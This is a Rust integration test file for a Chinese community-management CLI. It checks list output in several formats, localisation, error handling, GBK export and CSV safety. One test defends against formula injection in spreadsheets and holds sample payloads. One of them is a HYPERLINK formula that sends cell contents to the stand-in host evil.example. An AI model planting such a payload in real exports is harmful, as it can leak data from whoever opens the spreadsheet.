//! Issue 14 points 5–7 through the binary: every list command in every format on the
//! demo (exit 0, JSON and CSV that parse, something in them), zh tables without
//! English headers, an unknown group refused everywhere, typed JSON, and CSV that is
//! safe to open in a spreadsheet (formulas neutralised, BOM + CRLF for `export`, GBK).

use std::path::Path;

use predicates::prelude::*;

use crate::{bin, fresh_demo};

/// The commands that print a list (or a report of rows), as a person types them.
const LISTS: &[&[&str]] = &[
    &["group", "list"],
    &["operator", "list"],
    &["members", "list"],
    &["members", "list", "--tier", "沉默"],
    &["sop", "today"],
    &["sop", "templates"],
    &["content", "list"],
    &["content", "list", "--state", "已复盘"],
    &["content", "week"],
    &["content", "mix"],
    &["content", "review-week"],
    &["kpi"],
    &["kpi", "--group", "杭州吃货联盟", "--days", "3"],
    &["remind"],
    &["keywords", "list", "--category", "广告"],
    &["settings", "show"],
    &["export", "checklist"],
    &["export", "kpi"],
    &["export", "content"],
    &["export", "members"],
];

fn run(db: &Path, lang: &str, format: &str, args: &[&str]) -> std::process::Output {
    bin()
        .args(["--lang", lang, "--format", format])
        .args(args)
        .arg("--db")
        .arg(db)
        .output()
        .expect("the shequn binary runs")
}

#[test]
fn every_list_command_works_in_every_format() {
    let (_dir, db) = fresh_demo();
    for args in LISTS {
        for format in ["table", "json", "csv"] {
            let out = run(&db, "zh", format, args);
            let what = format!("{} --format {format}", args.join(" "));
            assert!(
                out.status.success(),
                "{what}: exit {:?}: {}",
                out.status.code(),
                String::from_utf8_lossy(&out.stderr)
            );
            let text = String::from_utf8(out.stdout).expect("UTF-8");
            assert!(!text.trim().is_empty(), "{what}: nothing printed");
            match format {
                "json" => {
                    let v: serde_json::Value = serde_json::from_str(&text)
                        .unwrap_or_else(|e| panic!("{what}: not JSON: {e}"));
                    let n = v
                        .as_array()
                        .map(Vec::len)
                        .or(v.as_object().map(serde_json::Map::len))
                        .unwrap_or(0);
                    assert!(n > 0, "{what}: empty JSON");
                }
                "csv" => {
                    let mut rd = csv::ReaderBuilder::new().from_reader(text.as_bytes());
                    let headers = rd.headers().expect("a header").clone();
                    assert!(headers.len() > 1, "{what}: {headers:?}");
                    let rows: Vec<csv::StringRecord> = rd
                        .records()
                        .collect::<Result<_, _>>()
                        .unwrap_or_else(|e| panic!("{what}: not CSV: {e}"));
                    assert!(!rows.is_empty(), "{what}: no rows");
                    // export is for spreadsheets, the rest for scripts
                    let export = args[0] == "export";
                    assert_eq!(text.starts_with('\u{feff}'), export, "{what}: BOM");
                    assert_eq!(text.contains("\r\n"), export, "{what}: line ends");
                }
                _ => {
                    // a zh table says its headers in Chinese (names such as KOL, SOP
                    // and the `#` of a rank aside); export writes CSV whatever it is
                    // asked
                    if !matches!(args, ["content", "week" | "review-week"] | ["export", ..]) {
                        let head = text.lines().next().unwrap_or("");
                        for word in head.split_whitespace() {
                            let latin = word.chars().filter(char::is_ascii_lowercase).count();
                            assert!(
                                latin == 0 || ["KOL", "SOP"].contains(&word),
                                "{what}: English header {word:?} in {head:?}"
                            );
                        }
                    }
                }
            }
        }
    }
}

#[test]
fn an_unknown_group_is_refused_by_every_command_that_takes_one() {
    let (_dir, db) = fresh_demo();
    for args in [
        &["members", "list", "--group", "nogroup"][..],
        &["content", "list", "--group", "nogroup"],
        &["content", "week", "--group", "nogroup"],
        &["content", "mix", "--group", "nogroup"],
        &["kpi", "--group", "nogroup"],
        &["sop", "apply", "base", "--group", "nogroup"],
        &[
            "remind", "add", "--at", "10m", "--title", "x", "--group", "nogroup",
        ],
    ] {
        bin()
            .args(["--lang", "zh"])
            .args(args)
            .arg("--db")
            .arg(&db)
            .assert()
            .code(1)
            .stderr(predicate::str::contains("nogroup"));
    }
}

#[test]
fn enumerations_are_taken_in_either_language() {
    let (_dir, db) = fresh_demo();
    let names = |args: &[&str]| -> Vec<String> {
        let v = crate::json(&db, args);
        let mut n: Vec<String> = v
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["id"].to_string())
            .collect();
        n.sort();
        n
    };
    assert_eq!(
        names(&["members", "list", "--tier", "沉默"]),
        names(&["members", "list", "--tier", "silent"])
    );
    assert_eq!(
        names(&["content", "list", "--state", "已复盘"]),
        names(&["content", "list", "--state", "reviewed"])
    );
    // the refusal lists the choices in both
    bin()
        .args([
            "--lang", "zh", "members", "list", "--tier", "sleepy", "--db",
        ])
        .arg(&db)
        .assert()
        .code(1)
        .stderr(predicate::str::contains("silent (沉默)"));
    bin()
        .args(["operator", "add", "bob", "--role", "助理", "--db"])
        .arg(&db)
        .assert()
        .success();
    let ops = crate::json(&db, &["operator", "list"]);
    assert!(
        ops.as_array()
            .unwrap()
            .iter()
            .any(|o| o["login"] == "bob" && o["role"] == "assistant"),
        "{ops}"
    );
}

#[test]
fn json_says_objects_times_and_counts_as_such() {
    let db = crate::shared_demo();
    let members = crate::json(db, &["members", "list"]);
    let m = &members[0];
    assert!(m["tier_reason"].is_object(), "{m}");
    assert!(m["tier_reason"]["rule"].is_string(), "{m}");
    assert!(m["tier_reason"]["text"].is_string(), "{m}");
    let joined = members
        .as_array()
        .unwrap()
        .iter()
        .find_map(|m| m["joined_at"].as_str())
        .expect("a join time");
    assert!(
        chrono::DateTime::parse_from_rfc3339(joined)
            .is_ok_and(|t| t.offset().local_minus_utc() == 8 * 3600),
        "{joined}"
    );
    let kpi = crate::json(db, &["kpi", "--days", "2"]);
    let day = &kpi[0]["days"][0];
    assert!(day["members"].is_i64(), "{day}");
    assert!(day["dau_rate"].is_f64(), "{day}");
}

/// A member of the demo renamed by `sql`, then exported.
fn with_names(names: &[&str]) -> (tempfile::TempDir, std::path::PathBuf) {
    let (dir, db) = fresh_demo();
    let c = rusqlite::Connection::open(&db).unwrap();
    for (i, n) in names.iter().enumerate() {
        c.execute(
            "UPDATE members SET name = ?1 WHERE id = ?2",
            rusqlite::params![n, i as i64 + 1],
        )
        .unwrap();
    }
    (dir, db)
}

#[test]
fn csv_never_hands_a_spreadsheet_a_formula() {
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "+1-2",
        "@SUM(1)",
        "-2+3",
    ];
    let (_dir, db) = with_names(&evil);
    for args in [
        &["export", "members"][..],
        &["members", "list", "--format", "csv"],
    ] {
        let out = bin().args(args).arg("--db").arg(&db).output().unwrap();
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        let mut rd = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
        for name in evil {
            let cell = format!("'{name}");
            assert!(
                rows.iter().any(|r| r[1] == *cell),
                "{args:?}: {name} not neutralised"
            );
            assert!(!rows.iter().any(|r| r[1] == *name), "{args:?}: {name} raw");
        }
        // every cell: none starts a formula
        for r in &rows {
            for c in r {
                let risky = c.starts_with(['=', '+', '@', '\t', '\r'])
                    || (c.starts_with('-') && c.parse::<f64>().is_err());
                assert!(!risky, "{args:?}: {c:?}");
            }
        }
    }
    // a negative number stays a number: points taken below zero are summed in a sheet
    let c = rusqlite::Connection::open(&db).unwrap();
    c.execute(
        "INSERT INTO points_ledger (member_id, at, delta, reason, by) VALUES (1, 0, -99999, 'test', 'root')",
        [],
    )
    .unwrap();
    drop(c);
    let text = String::from_utf8(
        bin()
            .args(["export", "members", "--db"])
            .arg(&db)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let points: Vec<String> = rd
        .records()
        .map(Result::unwrap)
        .filter(|r| &r[0] == "1")
        .map(|r| r[9].to_string())
        .collect();
    assert!(!points.is_empty());
    for p in points {
        assert!(p.starts_with('-') && p.parse::<i64>().is_ok(), "{p:?}");
    }
}

#[test]
fn export_in_gbk_opens_on_chinese_windows() {
    let db = crate::shared_demo();
    let out = bin()
        .args(["--encoding", "gbk", "export", "members", "--db"])
        .arg(db)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(std::str::from_utf8(&out.stdout).is_err(), "not GBK");
    let (text, _, bad) = encoding_rs::GBK.decode(&out.stdout);
    assert!(!bad);
    assert!(text.contains("宠物用品团购群"));
    // the demo's 🌸 group cannot be said in GBK: written as ?, and said so
    assert!(text.contains("?花艺生活美学群"));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("GBK") && err.contains("🌸"), "{err}");
}

/// The single-item and confirmation lines are in the user's language too: `content
/// show`'s labels, the demo's summary, `group add`, `operator add`.
#[test]
fn item_views_and_confirmations_speak_the_users_language() {
    let (_d, db) = fresh_demo();
    let id = crate::json(&db, &["content", "list"])[0]["id"].to_string();
    let zh = run(&db, "zh", "table", &["content", "show", &id]);
    assert!(zh.status.success());
    let text = String::from_utf8_lossy(&zh.stdout);
    for want in ["状态", "版本", "类型", "负责人", "最近修改"] {
        assert!(text.contains(want), "{want}:\n{text}");
    }
    for english in ["state ", "version", "owner ", "updated "] {
        assert!(!text.contains(english), "{english}:\n{text}");
    }
    let en = run(&db, "en", "table", &["content", "show", &id]);
    assert!(String::from_utf8_lossy(&en.stdout).contains("version"));
    let added = run(
        &db,
        "zh",
        "table",
        &["group", "add", "新测试群", "--kind", "兴趣型"],
    );
    let text = String::from_utf8_lossy(&added.stdout);
    assert!(added.status.success() && text.contains("已添加"), "{text}");
    let op = run(
        &db,
        "zh",
        "table",
        &["operator", "add", "xiaoming", "--role", "assistant"],
    );
    let text = String::from_utf8_lossy(&op.stdout);
    assert!(op.status.success() && text.contains("助理"), "{text}");
    let dir = tempfile::tempdir().unwrap();
    let demo = dir.path().join("d.db");
    let out = run(&demo, "zh", "table", &["demo"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && text.contains("已写入"), "{text}");
}
